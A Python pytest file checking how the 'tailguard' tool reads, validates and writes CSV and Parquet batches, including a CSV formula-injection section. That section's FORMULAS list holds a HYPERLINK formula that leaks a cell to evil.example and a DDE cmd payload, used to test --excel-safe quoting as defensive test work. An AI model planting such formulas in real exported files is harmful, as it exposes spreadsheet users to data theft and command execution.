"""Catalogue of realistic-export inputs (issue 12, items 1-4): each case is a small generated file.

Kinds: (1) one reader keeps the exact strings of id/text columns in every path (CSV, gzipped CSV,
Parquet, chunked or not, predict and metrics); (2) a row with the wrong number of fields is refused
with rule `field_count`, the line and both counts; (3) blank/length rules judge visible text; (4) no
coercion turns a non-missing value into missing (epoch `ts` read in the unit its magnitude implies).
"""

from __future__ import annotations

import gzip
import json
import os
from pathlib import Path

os.environ.setdefault("HF_HUB_OFFLINE", "1")

import numpy as np  # noqa: E402
import pandas as pd  # noqa: E402
import pyarrow as pa  # noqa: E402
import pyarrow.parquet as pq  # noqa: E402
import pytest  # noqa: E402
from typer.testing import CliRunner  # noqa: E402

from tailguard.cli import app  # noqa: E402
from tailguard.contract import (  # noqa: E402
    BadValues,
    ContractError,
    MissingColumn,
    UnreadableInput,
    iter_frames,
    read_frame,
    read_table,
    visible_text,
)
from tailguard.data import load_batch  # noqa: E402
from tailguard.validation import validate_frame  # noqa: E402

NA_LIKE = ["NA", "null", "None", "n/a", "nan"]  # the issue's five
MORE_NA_LIKE = ["NULL", "#N/A", "NaN", "-nan", "TRUE", "<NA>"]  # our own, same kind
PADDED = ["0000741", "00123", "0", "1e5", "007.50"]


def write(path: Path, text: str) -> Path:
    """Write CSV text as UTF-8; gzip when the name ends in .gz."""
    data = text.encode("utf-8")
    path.write_bytes(gzip.compress(data) if path.name.endswith(".gz") else data)
    return path


def csv_text(rows: list[list[str]], header: list[str]) -> str:
    return "\n".join(",".join(r) for r in [header, *rows]) + "\n"


def batch_rows(queries: list[str], per_query: int = 10, item_ids: list[str] | None = None) -> list[list[str]]:
    rows = []
    for q_i, query in enumerate(queries):
        for i in range(per_query):
            item = item_ids[(q_i * per_query + i) % len(item_ids)] if item_ids else f"i{q_i}-{i}"
            rows.append([query, item, f"title {q_i} {i}", str(int(i < 3))])
    return rows


HEADER = ["query", "item_id", "item_title", "label"]


def as_file(tmp_path: Path, kind: str, rows: list[list[str]], header: list[str] = HEADER) -> Path:
    if kind == "parquet":
        path = tmp_path / "batch.parquet"
        table = pa.table({h: pa.array([r[i] for r in rows], pa.string()) for i, h in enumerate(header)})
        pq.write_table(table, path)
        return path
    return write(tmp_path / ("batch.csv.gz" if kind == "gz" else "batch.csv"), csv_text(rows, header))


# --- kind 1: exact strings ----------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["csv", "gz", "parquet"])
@pytest.mark.parametrize(
    "values", [NA_LIKE, MORE_NA_LIKE, PADDED + ["0000"]], ids=["issue", "ours", "digits"]
)
def test_text_cells_are_the_exact_strings_in_the_file(tmp_path, kind, values):
    rows = batch_rows(values + [f"q{i}" for i in range(5)], per_query=2, item_ids=PADDED + values)
    frame = load_batch(as_file(tmp_path, kind, rows))
    assert frame["query"].tolist() == [r[0] for r in rows]
    assert frame["item_id"].tolist() == [r[1] for r in rows]
    assert frame["query"].notna().all() and frame["item_id"].notna().all()


@pytest.mark.parametrize("kind", ["csv", "gz"])
def test_only_an_empty_cell_is_missing(tmp_path, kind):
    rows = [["a", "1", "t", "1"], ["", "2", "t", "0"], ['"NA"', "3", "t", "0"], ["None", "", "t", "1"]]
    frame = read_table(as_file(tmp_path, kind, rows))
    assert frame["query"].tolist() == ["a", None, "NA", "None"]
    assert frame["item_id"].tolist() == ["1", "2", "3", None]


def test_chunked_reads_equal_one_read_and_keep_row_numbers(tmp_path):
    rows = batch_rows([f"{i:04d}" for i in range(7)], per_query=3)
    path = as_file(tmp_path, "gz", rows)
    chunks = list(iter_frames(path, chunk_rows=4))
    assert [len(c) for c in chunks] == [4, 4, 4, 4, 4, 1]
    joined = pd.concat(chunks)
    assert joined.index.tolist() == list(range(21))
    pd.testing.assert_frame_equal(joined, read_frame(path))
    assert joined["query"].iloc[0] == "0000"


def test_missing_required_column_is_a_contract_error(tmp_path):
    path = write(tmp_path / "b.csv", "query,item_title,label\nNA,t,1\n")
    with pytest.raises(MissingColumn) as info:
        read_frame(path)
    assert info.value.rule == "required_columns" and info.value.column == "item_id"


# --- kind 2: field counts ------------------------------------------------------------------------------


def _issue_trailing_comma(extra_column: bool) -> tuple[str, int, int, int]:
    header = HEADER + (["add_to_cart"] if extra_column else [])
    rng = np.random.default_rng(0)
    rows = []
    for i in range(300):
        row = [f"query {i // 10}", f"{i:07d}", f"title {i}", str(int(rng.random() < 0.073))]
        rows.append(row + ([str(int(rng.random() < 0.22))] if extra_column else []))
    lines = csv_text(rows, header).splitlines()
    lines[1] += ","  # one stray trailing comma at the end of data row 1
    return "\n".join(lines) + "\n", 2, len(header) + 1, len(header)


def _short_row_deep_in_file() -> tuple[str, int, int, int]:
    rows = batch_rows([f"q{i}" for i in range(30)])
    rows[249] = rows[249][:3]  # a row cut short at data row 250 (line 251)
    return csv_text(rows, HEADER), 251, 3, 4


def _extra_fields_after_multiline_title() -> tuple[str, int, int, int]:
    text = csv_text(batch_rows(["a", "b"], per_query=5), HEADER)
    # A quoted title holding two line breaks shifts physical lines: the bad row is on line 15, record 13.
    text += '"c","x1","three\nline\ntitle","1"\n' + "c,x2,t,0,extra,more\n"
    return text, 15, 6, 4


@pytest.mark.parametrize("gzipped", [False, True], ids=["csv", "gz"])
@pytest.mark.parametrize(
    "case",
    [
        lambda: _issue_trailing_comma(True),
        lambda: _issue_trailing_comma(False),
        _short_row_deep_in_file,
        _extra_fields_after_multiline_title,
    ],
    ids=["issue-with-add_to_cart", "issue-without", "short-row-250", "after-multiline"],
)
def test_wrong_field_count_names_line_and_both_counts(tmp_path, case, gzipped):
    text, line, got, expected = case()
    path = write(tmp_path / ("b.csv.gz" if gzipped else "b.csv"), text)
    with pytest.raises(UnreadableInput) as info:
        load_batch(path)
    err = info.value
    assert err.rule == "field_count"
    assert f"line {line} has {got} field(s) but the header has {expected}" in str(err), str(err)
    assert str(path) in str(err)


# --- kind 3: visible text ------------------------------------------------------------------------------


def _validate(tmp_path: Path, queries: list[str], titles: list[str] | None = None):
    rows = batch_rows([f"query {i}" for i in range(20)], per_query=6)
    for i, q in enumerate(queries):
        rows[i][0] = q
    for i, t in enumerate(titles or []):
        rows[-1 - i][2] = t
    path = as_file(tmp_path, "parquet", rows)
    return validate_frame(load_batch(path), str(path))


@pytest.mark.parametrize(
    "query",
    ["\u200b", "\u200c\u2060", "\ufeff", "\u3000", "\u00a0\u2009", "\u200b \u200d", "\u3164"],
    ids=["zwsp", "zwnj+wj", "bom", "ideographic-space", "nbsp+thin", "zw-mix", "hangul-filler"],
)
def test_invisible_query_is_blank(tmp_path, query):
    result = _validate(tmp_path, [query])
    rules = {(f.column, f.rule) for f in result.failures}
    assert ("query", "query_not_blank") in rules, result.message()
    hit = next(f for f in result.failures if f.rule == "query_not_blank")
    assert hit.examples[0]["value"] == query and hit.examples[0]["row"] == 0


@pytest.mark.parametrize(
    "title", ["\u200b", "\u00ad", "\ufe0f\u034f"], ids=["zwsp", "soft-hyphen", "selectors"]
)
def test_invisible_title_breaks_title_length(tmp_path, title):
    result = _validate(tmp_path, [], [title])
    hit = [f for f in result.failures if (f.column, f.rule) == ("item_title", "title_length_between")]
    assert hit and hit[0].examples[0]["value"] == title, result.message()


def test_visible_text_keeps_real_characters(tmp_path):
    assert visible_text("\uff44\uff52\uff49\uff4c\uff4c") == "drill"  # fullwidth folds by NFKC
    assert visible_text("\ufeffcordless\u200b drill\u00a0") == "cordless drill"
    result = _validate(tmp_path, ["\uff44rill", "ä", "電鑽"], ["x"])
    assert result.success, result.message()


# --- kind 4: no coercion to missing --------------------------------------------------------------------


def _ts_rows(values: list[str]) -> list[list[str]]:
    rows = batch_rows([f"q{i}" for i in range(30)])[: len(values)]
    return [r + [v] for r, v in zip(rows, values, strict=True)]


EPOCH_MS = 1767571200000


@pytest.mark.parametrize(
    ("values", "unit", "first"),
    [
        ([EPOCH_MS + i * 60000 for i in range(300)], "epoch_ms", "2026-01-05T00:00:00+00:00"),
        ([1767571200 + i * 60 for i in range(150)], "epoch_s", "2026-01-05T00:00:00+00:00"),
        ([(EPOCH_MS + i) * 1000 for i in range(150)], "epoch_us", "2026-01-05T00:00:00+00:00"),
        ([(EPOCH_MS + i) * 1_000_000 for i in range(150)], "epoch_ns", "2026-01-05T00:00:00+00:00"),
    ],
    ids=["issue-ms", "seconds", "micro", "nano"],
)
def test_epoch_ts_is_read_in_the_unit_its_magnitude_implies(tmp_path, values, unit, first):
    rows = _ts_rows([str(v) for v in values])
    header = HEADER + ["ts"]
    parquet = tmp_path / "p.parquet"
    table = pa.table({h: pa.array([r[i] for r in rows], pa.string()) for i, h in enumerate(HEADER)})
    pq.write_table(table.append_column("ts", pa.array(values, pa.int64())), parquet)
    from_csv = load_batch(write(tmp_path / "c.csv", csv_text(rows, header)))
    from_parquet = load_batch(parquet)
    for frame in (from_csv, from_parquet):
        assert frame["ts"].notna().all()
        assert frame.attrs["ts_unit"] == unit
        assert frame["ts"].iloc[0].isoformat() == first
    pd.testing.assert_series_equal(from_csv["ts"], from_parquet["ts"])
    assert validate_frame(from_parquet, str(parquet)).stats["ts_unit"] == unit


@pytest.mark.parametrize(
    ("column", "values", "rule"),
    [
        ("ts", [str(EPOCH_MS), "1767571200"], "epoch_unit"),  # two units in one column
        ("ts", ["1767571200", "42"], "epoch_unit"),  # 42: too small to tell the unit
        ("ts", ["2026-01-05T00:00:00Z", "yesterday"], "datetime"),
        ("price", ["1.5", "nan"], "numeric"),  # the text 'nan' is not a missing price
        ("price", ["1.5", "inf"], "finite"),
        ("position", ["1", "1.5"], "integer"),
        ("label", ["1", "yes"], "label_binary"),
        ("relevance", ["0.5", "n/a"], "numeric"),
    ],
)
def test_values_that_would_become_missing_are_refused(tmp_path, column, values, rule):
    rows = [[f"q{i}", f"i{i}", "t", "1" if column != "label" else v] for i, v in enumerate(values)]
    header = HEADER if column == "label" else HEADER + [column]
    if column != "label":
        rows = [r + [v] for r, v in zip(rows, values, strict=True)]
    with pytest.raises(BadValues) as info:
        load_batch(write(tmp_path / "b.csv", csv_text(rows, header)))
    assert (info.value.column, info.value.rule) == (column, rule)
    assert info.value.examples and info.value.examples[0]["row"] == 1


def test_parquet_numeric_ids_and_categories_stay_text(tmp_path):
    path = tmp_path / "b.parquet"
    pd.DataFrame(
        {"query": ["a", "b"], "item_id": [741, 2], "item_title": ["t", "u"], "label": [1, 0],
         "category": pd.array([7, None], "Int64")}
    ).to_parquet(path)  # fmt: skip
    frame = load_batch(path)
    assert frame["item_id"].tolist() == ["741", "2"] and frame["category"].tolist() == ["7", None]


# --- through the CLI -----------------------------------------------------------------------------------


@pytest.fixture()
def cli_env(tmp_path, monkeypatch):
    monkeypatch.setenv("TAILGUARD_STORE", str(tmp_path / "store"))
    monkeypatch.setenv("TAILGUARD_HOME", str(tmp_path / "home"))
    return CliRunner()


def test_validate_exit_codes(tmp_path, cli_env):
    good = write(tmp_path / "good.csv", csv_text(batch_rows([f"q{i}" for i in range(20)]), HEADER))
    text, *_ = _issue_trailing_comma(True)
    bad = write(tmp_path / "bad.csv", text)
    rows = batch_rows([f"q{i}" for i in range(20)])
    rows[0][0] = "\u200b"
    blank = write(tmp_path / "blank.csv", csv_text(rows, HEADER))
    ok = cli_env.invoke(app, ["validate", "--data", str(good), "--previous", "none"])
    assert ok.exit_code == 0, ok.output
    refused = cli_env.invoke(app, ["validate", "--data", str(bad), "--previous", "none"])
    assert refused.exit_code == 2 and "field_count" in refused.output and "line 2" in refused.output
    invisible = cli_env.invoke(app, ["validate", "--data", str(blank), "--previous", "none"])
    assert invisible.exit_code == 2 and "query_not_blank" in invisible.output


def _forty_queries() -> pd.DataFrame:
    """The issue's file: 5 NA-like queries x 10 rows + 35 ordinary queries, zero-padded item ids."""
    rows = []
    for q_i, query in enumerate(NA_LIKE + [f"{q:04d}" for q in range(35)]):
        for i in range(10):
            rows.append((query, f"{(q_i * 7 + i) % 60:07d}", f"title {query} {i}", int(i < 3)))
    return pd.DataFrame(rows, columns=HEADER)


@pytest.fixture(scope="module")
def tiny_model(tmp_path_factory):
    from tailguard import model as M

    df = pd.DataFrame({"query": ["red drill"] * 8 + ["lamp"] * 8, "item_id": [f"{i:03d}" for i in range(16)],
                       "item_title": [f"drill {i}" for i in range(16)], "label": [1, 0] * 8})  # fmt: skip
    out = tmp_path_factory.mktemp("model") / "m"
    cfg = M.TrainConfig(epochs=1, batch_size=8, threads=1, progress=False, tensorboard=False)
    M.train(df, cfg, out)
    return out


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_predict_round_trip_keeps_strings_and_metrics_counts_40_queries(
    tmp_path, cli_env, tiny_model, suffix
):
    source = _forty_queries()
    data = write(tmp_path / "eval.csv", source.to_csv(index=False))
    out = tmp_path / f"scored{suffix}"
    res = cli_env.invoke(
        app,
        ["predict", "--model", str(tiny_model), "--data", str(data), "--out", str(out), "--chunk-rows", "37"],
    )
    assert res.exit_code == 0, res.output
    scored = read_frame(out, numeric=("score",))
    assert scored["query"].tolist() == source["query"].tolist()
    assert scored["item_id"].tolist() == source["item_id"].tolist()
    if suffix == ".parquet":
        schema = pq.read_schema(out)
        assert schema.field("query").type == pa.string() and schema.field("item_id").type == pa.string()
    metrics_out = tmp_path / "metrics.json"
    res = cli_env.invoke(
        app, ["metrics", "--predictions", str(out), "--train", str(data), "--out", str(metrics_out),
              "--bootstrap", "20"]
    )  # fmt: skip
    assert res.exit_code == 0, res.output
    assert json.loads(metrics_out.read_text())["data"]["queries"] == 40


def test_predict_refuses_a_bad_row_and_leaves_no_output(tmp_path, cli_env, tiny_model):
    text, *_ = _issue_trailing_comma(False)
    out = tmp_path / "scored.parquet"
    res = cli_env.invoke(
        app, ["predict", "--model", str(tiny_model), "--data", str(write(tmp_path / "b.csv", text)),
              "--out", str(out)]
    )  # fmt: skip
    assert res.exit_code == 2 and "field_count" in res.output and not out.exists()


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_predict_refuses_files_whose_columns_differ_and_never_scores_into_its_input(
    tmp_path, cli_env, tiny_model, suffix
):
    """A CSV written from files with different headers put cells under the wrong names (exit 0); --out at
    the input deleted the input before reading it. Both are one-line refusals, the input left as it was."""
    source = _forty_queries()
    folder = tmp_path / "batch"
    folder.mkdir()
    source.iloc[:200].to_csv(folder / "a.csv", index=False)
    source.iloc[200:][list(reversed(HEADER))].to_csv(folder / "b.csv", index=False)
    out = tmp_path / f"scored{suffix}"
    args = ["predict", "--model", str(tiny_model), "--data", str(folder), "--out", str(out)]
    res = cli_env.invoke(app, args)
    assert res.exit_code == 2 and "same_columns_in_every_file" in res.output and "b.csv" in res.output
    assert not out.exists()
    before = (folder / "a.csv").read_bytes()
    for data, target in ((folder / "a.csv", folder / "a.csv"), (folder, folder / f"scored{suffix}")):
        args = ["predict", "--model", str(tiny_model), "--data", str(data), "--out", str(target)]
        res = cli_env.invoke(app, args)
        assert res.exit_code == 2 and "write the scores to another path" in res.output, res.output
    assert (folder / "a.csv").read_bytes() == before and not (folder / f"scored{suffix}").exists()


def test_contract_error_is_one_line_not_a_traceback(tmp_path):
    path = write(tmp_path / "b.csv", "query,item_id,item_title,label\na,1,t,1,\n")
    with pytest.raises(ContractError) as info:
        read_table(path)
    assert "Traceback" not in str(info.value) and "\n" not in str(info.value)


# --- CSV formula injection (issue 13, Low): exact by default, quote-prefixed with --excel-safe ------------

# The issue's HYPERLINK plus the other OWASP lead characters (+ - @ tab CR); a bare CR also tests that the
# exact CSV keeps it (pandas' default "\n" line end wrote it unquoted: '\r=1+1' came back '=1+1').
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "\tsneaky", "\r=1+1", "x\ry"]  # fmt: skip


def _formula_rows() -> pd.DataFrame:
    rows = []
    for q_i, query in enumerate(FORMULAS + ["plain drill", "a-b", "e=mc2"]):
        for i in range(4):
            rows.append((query, f"{q_i:03d}{i}", f"{FORMULAS[i]} title", int(i < 2)))
    return pd.DataFrame(rows, columns=HEADER)


def test_predict_csv_keeps_formula_text_exact_and_metrics_reads_it_back(tmp_path, cli_env, tiny_model):
    source = _formula_rows()
    data = tmp_path / "eval.parquet"
    source.to_parquet(data, index=False)
    out = tmp_path / "scored.csv"
    res = cli_env.invoke(app, ["predict", "--model", str(tiny_model), "--data", str(data), "--out", str(out)])
    assert res.exit_code == 0, res.output
    scored = read_frame(out, numeric=("score",))
    assert scored["query"].tolist() == source["query"].tolist()
    assert scored["item_title"].tolist() == source["item_title"].tolist()
    metrics_out = tmp_path / "metrics.json"
    res = cli_env.invoke(app, ["metrics", "--predictions", str(out), "--train", str(data), "--out",
                               str(metrics_out), "--bootstrap", "10"])  # fmt: skip
    assert res.exit_code == 0, res.output
    assert json.loads(metrics_out.read_text())["data"]["queries"] == len(FORMULAS) + 3


def test_predict_excel_safe_quotes_only_cells_a_spreadsheet_would_run(tmp_path, cli_env, tiny_model):
    source = _formula_rows()
    data = tmp_path / "eval.parquet"
    source.to_parquet(data, index=False)
    out = tmp_path / "for-excel.csv"
    res = cli_env.invoke(app, ["predict", "--model", str(tiny_model), "--data", str(data), "--out", str(out),
                               "--excel-safe"])  # fmt: skip
    assert res.exit_code == 0, res.output
    written = read_table(out)
    expected = [("'" + q) if q[0] in "=+-@\t\r" else q for q in source["query"]]
    assert written["query"].tolist() == expected
    assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in written.to_numpy().ravel())
    ids = written.loc[written["query"] == "a-b", "item_id"].tolist()  # ids keep their zeros, no quote
    assert ids == source.loc[source["query"] == "a-b", "item_id"].tolist() and ids[0].startswith("00")
    scores = pd.to_numeric(written["score"])  # numbers are left alone
    assert scores.between(0, 1).all()


def test_balance_excel_safe_and_exact(tmp_path, cli_env):
    source = _formula_rows()
    data = tmp_path / "train.csv"
    source.to_csv(data, index=False, lineterminator="\r\n")  # "\n" would leave the bare CRs unquoted
    exact, safe = tmp_path / "exact.csv", tmp_path / "safe.csv"
    res = cli_env.invoke(app, ["balance", "--data", str(data), "--strategy", "none", "--out", str(exact)])
    assert res.exit_code == 0, res.output
    res = cli_env.invoke(
        app, ["balance", "--data", str(data), "--strategy", "none", "--out", str(safe), "--excel-safe"]
    )
    assert res.exit_code == 0, res.output
    assert sorted(read_table(exact)["query"]) == sorted(source["query"])
    quoted = read_table(safe)["item_title"]
    assert sorted(quoted) == sorted(("'" + t) if t[0] in "=+-@\t\r" else t for t in source["item_title"])
    # A header cell is a cell: a column named like a formula is quoted too (a breaker found it written raw).
    source.assign(**{FORMULAS[0]: "x", "@SUM(A1:A9)": "y"}).to_csv(data, index=False, lineterminator="\r\n")
    res = cli_env.invoke(
        app, ["balance", "--data", str(data), "--strategy", "none", "--out", str(safe), "--excel-safe"]
    )
    assert res.exit_code == 0, res.output
    header = list(read_table(safe).columns)
    assert "'" + FORMULAS[0] in header and "'@SUM(A1:A9)" in header
    assert not any(str(c).startswith(("=", "+", "-", "@")) for c in header)


def test_a_column_pandas_saved_as_the_index_is_kept(tmp_path):
    """df.set_index("request_id").to_parquet(): request_id is a column of the file, which pandas' metadata
    made the index and the reader then dropped (from predict and balance output, and from metrics'
    category slices when it was `category`). Read now as the file holds it, named or not."""
    source = _formula_rows().assign(request_id=[f"req-{i:03d}" for i in range(len(_formula_rows()))])
    source.set_index("request_id").to_parquet(tmp_path / "named.parquet")
    got = load_batch(tmp_path / "named.parquet")
    assert got["request_id"].tolist() == source["request_id"].tolist()
    source.set_index("item_id").to_parquet(tmp_path / "contract.parquet")
    assert load_batch(tmp_path / "contract.parquet")["item_id"].tolist() == source["item_id"].tolist()
    source.set_index(pd.Index([f"r{i}" for i in range(len(source))])).to_parquet(tmp_path / "unnamed.parquet")
    assert load_batch(tmp_path / "unnamed.parquet")["__index_level_0__"].iloc[0] == "r0"


# --- review after issue 12: lone marks, float ids, offset mixes, empty relevance --------------------------

UNSEEN = ["\u0301", "\u0301\u0308", "\ufffd", "\ue000", " \u20dd", "\U000f0001", "\u0378"]


@pytest.mark.parametrize("text", UNSEEN, ids=["acute", "acute+diaeresis", "fffd", "pua", "me", "pua-b", "cn"])
def test_unseen_characters_are_blank_and_bert_agrees(text):
    from tokenizers.normalizers import BertNormalizer

    assert visible_text(text) == ""
    for strip in (None, True):
        seen = BertNormalizer(lowercase=True, strip_accents=strip).normalize_str(text).strip()
        # BERT keeps U+0378 and a lone enclosing mark; tailguard refuses them too (safe side).
        assert seen == "" or text in (" \u20dd", "\u0378")
    assert visible_text("e\u0301") == "\u00e9" and visible_text("\u0301e") == "e"


@pytest.mark.parametrize("column", ["query", "item_title"])
@pytest.mark.parametrize("text", ["\u0301", "\u0301\u0308", "\ufffd", "\ue000"])
def test_unseen_text_is_refused_by_validation(tmp_path, column, text):
    query, title = ([text], []) if column == "query" else ([], [text])
    result = _validate(tmp_path, query, title)
    rule = "query_not_blank" if column == "query" else "title_length_between"
    assert (column, rule) in {(f.column, f.rule) for f in result.failures}, result.message()


@pytest.mark.parametrize(
    "values",
    [[1.5, 2.0, 2.0, 3.0], [2.0, 2.0, 3.0, 4.0], [0.1, None, 7.0, 8.0]],
    ids=["issue", "whole", "holed"],
)
def test_float_id_column_in_parquet_is_refused(tmp_path, values):
    path = tmp_path / "f.parquet"
    table = pa.table({"query": ["q"] * 4, "item_id": pa.array(values, pa.float64()), "item_title": ["t"] * 4,
                      "label": [1, 0, 1, 0]})  # fmt: skip
    pq.write_table(table, path, row_group_size=2)
    for chunk_rows in (2, 4):
        with pytest.raises(BadValues) as info:
            list(iter_frames(path, chunk_rows=chunk_rows))
        assert (info.value.column, info.value.rule) == ("item_id", "text_type")
        assert "float64" in info.value.detail and info.value.examples[0]["row"] == 0


def test_int_id_with_nulls_in_parquet_stays_integer_text(tmp_path):
    path = tmp_path / "i.parquet"
    pq.write_table(pa.table({"query": ["q"] * 3, "item_id": pa.array([741, None, 2], pa.int64()),
                             "item_title": ["t"] * 3, "label": [1, 0, 1]}), path)  # fmt: skip
    assert read_frame(path)["item_id"].tolist() == ["741", None, "2"]


@pytest.mark.parametrize(
    "values",
    [
        ["2026-01-05T10:00:00+05:30", "2026-01-05T10:00:00"],  # the issue's order
        ["2026-01-05T10:00:00", "2026-01-05T10:00:00+05:30"],  # reversed
        ["2026-01-05T10:00:00Z", "2026-01-05 11:00"],
        ["2026-01-05", "2026-01-06T08:00:00.5-0800"],
    ],
    ids=["issue", "reversed", "z-and-plain", "date-and-offset"],
)
@pytest.mark.parametrize("kind", ["csv", "parquet"])
def test_ts_mixing_offsets_and_none_is_refused(tmp_path, values, kind):
    rows = [["q", f"i{i}", "t", "1", v] for i, v in enumerate(values)]
    with pytest.raises(BadValues) as info:
        read_frame(as_file(tmp_path, kind, rows, HEADER + ["ts"]))
    assert (info.value.column, info.value.rule) == ("ts", "datetime") and "offset" in info.value.detail


def test_ts_without_offsets_is_utc_in_any_order(tmp_path):
    values = ["2026-01-05T10:00:00", "2026-01-05", "2026-01-05 23:59:59"]
    for order in (values, values[::-1]):
        rows = [["q", "i", "t", "1", v] for v in order]
        frame = read_frame(as_file(tmp_path, "csv", rows, HEADER + ["ts"]))
        assert sorted(t.isoformat() for t in frame["ts"]) == [
            "2026-01-05T00:00:00+00:00",
            "2026-01-05T10:00:00+00:00",
            "2026-01-05T23:59:59+00:00",
        ]


@pytest.mark.parametrize("kind", ["csv", "parquet"])
@pytest.mark.parametrize("empty_rows", [[0], [1, 2]])
def test_empty_relevance_is_refused(tmp_path, kind, empty_rows):
    rows = [["q", f"i{i}", "t", "1", "" if i in empty_rows else "0.5"] for i in range(4)]
    path = as_file(tmp_path, kind, rows, HEADER + ["relevance"])
    if kind == "parquet":  # a real null, not ""
        table = pq.read_table(path)
        rel = pa.array([None if i in empty_rows else 0.5 for i in range(4)], pa.float64())
        pq.write_table(table.set_column(4, "relevance", rel), path)
    with pytest.raises(BadValues) as info:
        read_frame(path)
    assert (info.value.column, info.value.rule) == ("relevance", "not_null")
    assert [e["row"] for e in info.value.examples] == empty_rows
